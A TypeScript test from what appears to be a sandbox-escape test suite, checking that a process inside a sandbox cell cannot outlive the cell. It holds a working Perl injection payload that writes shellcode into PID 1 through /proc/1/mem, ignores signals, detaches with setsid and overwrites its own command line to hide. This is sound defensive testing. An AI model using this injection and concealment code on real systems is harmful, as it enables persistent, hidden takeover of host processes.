import { type Attack, judge, notApplicable } from './attack.ts'
import { descendantsOf, hostProcesses, isGone, uniqueSeconds, until } from './host-process.ts'

/** prctl(PR_SET_PDEATHSIG, 0), and then wait for ever, as machine code by the name that perl has for the machine. */
const undying: Readonly<Record<string, string>> = {
  x86_64: 'b89d000000bf0100000031f60f05b8220000000f05ebf7',
  aarch64: 'e81480d2200080d2010080d2010000d4280980d2000080d2010080d2020080d2030080d2010000d4faffff17',
}

/** Puts its own code into the first process that it sees, and rewrites its command line: it is to outlive whoever made it, and to be
 *  found by nobody. */
const takeOver = (mark: string) => `
  use POSIX (); $| = 1; $SIG{$_} = "IGNORE" for qw(HUP INT TERM PIPE);
  my %code = (${Object.entries(undying)
    .map(([machine, code]) => `${machine} => "${code}"`)
    .join(', ')});
  my $code = pack "H*", $code{(POSIX::uname())[4]} // exit;
  unless (fork) { POSIX::setsid(); exec "sleep", "${mark}" }
  my $taken = 0;
  if (open my $memory, "+<", "/proc/1/mem") {
    for (1 .. 100) {
      open my $call, "<", "/proc/1/syscall" or last;
      my $at = (split " ", <$call> // "")[-1] // "";
      last if $taken = $at =~ /^0x/ && sysseek($memory, hex $at, 0) && syswrite $memory, $code;
    }
    open my $stat, "<", "/proc/1/stat"; my ($from, $to) = (split " ", (<$stat> =~ s/.*\\) //r))[45, 46];
    sysseek $memory, $from, 0 and syswrite $memory, "x" x ($to - $from) if $from;
  }
  # A process is left to it: that it has to look after wakes it.
  unless (fork) { unless (fork) { select undef, undef, undef, 0.1; POSIX::_exit(0) } POSIX::_exit(0) }
  wait;
  select undef, undef, undef, 0.3;
  print $taken ? "taken" : "refused", "\\n";
  exec "sleep", "${mark}"`

export const firstProcess: Attack = {
  name: 'take over the first process',
  promise: 'What ends a cell is out of its reach: no process in it can keep the cell from ending with its keeper',
  guard: 'the cell lies in a process namespace whose first process it cannot see',
  async *run(on) {
    if (!['x64', 'arm64'].includes(process.arch))
      return yield notApplicable('when the keeper is killed', 'there is no machine code for this processor')
    const mark = uniqueSeconds()
    const launcher = on.launch(['perl', '-e', takeOver(mark)])
    const said = await new Promise<string>((resolve) => {
      launcher.stdout.once('data', (chunk) => resolve(String(chunk).trim()))
      launcher.once('exit', () => resolve(''))
    })
    const tree = descendantsOf(launcher.pid ?? 0)
    launcher.kill('SIGKILL')
    const ended = await until(() => hostProcesses(mark).length === 0 && tree.every(isGone))
    yield judge('when the keeper is killed', { tried: /^(taken|refused)$/.test(said), ended }, { tried: true, ended: true })
  },
}
